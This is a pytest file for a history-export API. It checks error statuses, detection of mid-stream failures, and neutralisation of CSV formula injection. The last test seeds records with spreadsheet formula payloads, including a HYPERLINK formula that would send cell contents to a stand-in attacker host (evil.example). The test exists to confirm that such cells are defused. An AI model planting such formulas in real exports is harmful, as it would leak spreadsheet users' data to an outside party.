"""Exports fail visibly and stay safe to open in a spreadsheet.

A real server (uvicorn) is used: the distinction between a 200 with a truncated body and an error
status only shows on the wire. A query that fails before the first row is an HTTP error; a failure
after streaming began aborts the chunked body, which every HTTP client reports as incomplete.
"""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import httpx
import psycopg
import pytest
from psycopg.rows import dict_row

from api.app import create_app
from sealwatch.config import Settings
from sealwatch.fixes import FixRecord
from store.fixes import FixWriter
from tests.helpers import serve_app
from tests.history.conftest import SimDay
from tests.login import auth


@pytest.fixture
def server(day: SimDay) -> Iterator[tuple[str, dict[str, str]]]:
    with serve_app(create_app(Settings(database_url=day.url, mqtt_url=None))) as url:
        yield url, auth(day.url, "auditor", "auditor")


@pytest.mark.parametrize("fmt", ["csv", "geojson"])
@pytest.mark.parametrize("dataset", ["transits", "tracks", "alerts", "observations"])
def test_a_query_that_fails_is_an_error_status_not_a_truncated_200(
    server: tuple[str, dict[str, str]], day: SimDay, dataset: str, fmt: str
) -> None:
    url, headers = server
    # A NUL character cannot reach PostgreSQL: the query fails before its first row.
    params = {"format": fmt, "carrier": "bad\x00carrier"} if dataset == "transits" else {"format": fmt}
    if dataset != "transits":
        params["seal_id"] = "AZS\x00X"
        params["transit_id"] = day.transits[0].transit_id
    with httpx.Client(base_url=url, headers=headers, timeout=30) as client:
        resp = client.get(f"/api/history/export/{dataset}", params=params)
    assert resp.status_code == 422, (resp.status_code, resp.text[:200])
    assert "NUL" in resp.json()["detail"]


def test_small_exports_carry_their_length(server: tuple[str, dict[str, str]], day: SimDay) -> None:
    url, headers = server
    with httpx.Client(base_url=url, headers=headers, timeout=30) as client:
        resp = client.get("/api/history/export/transits", params={"format": "csv"})
        plain = client.get(
            "/api/history/export/transits", params={"format": "csv"}, headers={"accept-encoding": "identity"}
        )
    assert resp.status_code == plain.status_code == 200
    assert int(resp.headers["content-length"]) == resp.num_bytes_downloaded  # compressed on the wire: its length
    assert int(plain.headers["content-length"]) == len(plain.content) == len(resp.content)
    assert len(list(csv.DictReader(io.StringIO(resp.text)))) == len(day.transits)


def test_a_failure_mid_stream_is_seen_by_the_client(server: tuple[str, dict[str, str]], day: SimDay) -> None:
    """The database connection of an export is killed after streaming began: the client must not
    end up with a well-formed-looking file."""
    url, headers = server
    seal = "AZS-BULK"
    start = datetime(2024, 1, 1, tzinfo=UTC)
    now = datetime.now(UTC)
    fixes = [
        FixRecord(seal, i, start + timedelta(seconds=i), 40.0, 49.0, 50.0, 90.0, 9, 0.9, 80.0, "closed", now)
        for i in range(300_000)
    ]
    with psycopg.connect(day.url, row_factory=dict_row) as conn:
        FixWriter(conn).write(fixes, [])
    params = {
        "format": "csv",
        "seal_id": seal,
        "start": start.isoformat(),
        "end": (start + timedelta(days=5)).isoformat(),
    }
    received = 0
    killed = threading.Event()
    with (
        httpx.Client(base_url=url, headers=headers, timeout=60) as client,
        client.stream("GET", "/api/history/export/tracks", params=params) as resp,
    ):
        assert resp.status_code == 200
        assert "content-length" not in resp.headers  # too large to hold: streamed, chunked
        with pytest.raises(httpx.RemoteProtocolError):
            for chunk in resp.iter_bytes():
                received += len(chunk)
                if not killed.is_set():
                    with psycopg.connect(day.url, autocommit=True) as conn:
                        conn.execute(
                            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"
                            " WHERE datname = current_database() AND query LIKE 'COPY%%' AND pid <> pg_backend_pid()"
                        )
                    killed.set()
    assert killed.is_set() and received > 0


async def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(day: SimDay, client: httpx.AsyncClient) -> None:
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    with psycopg.connect(day.url) as conn:
        for sim, name in zip(day.transits, names, strict=False):
            conn.execute(
                "UPDATE declarations SET carrier_name = %s"
                " WHERE id = (SELECT declaration_id FROM transits WHERE transit_id = %s)",
                (name, sim.transit_id),
            )
    resp = await client.get("/api/history/export/transits", params={"format": "csv"})
    assert resp.status_code == 200
    rows = list(csv.DictReader(io.StringIO(resp.text, newline="")))
    carriers = {r["transit_id"]: r["carrier_name"] for r in rows}
    for sim, name in zip(day.transits, names, strict=False):
        assert carriers[sim.transit_id] == "'" + name  # shown as text, the original still readable
    # Numbers keep their sign: only text cells are neutralised.
    track = await client.get(
        "/api/history/export/tracks", params={"format": "csv", "transit_id": day.transits[0].transit_id}
    )
    first = next(csv.DictReader(io.StringIO(track.text)))
    assert float(first["lon"]) > 0 and not first["seal_id"].startswith("'")
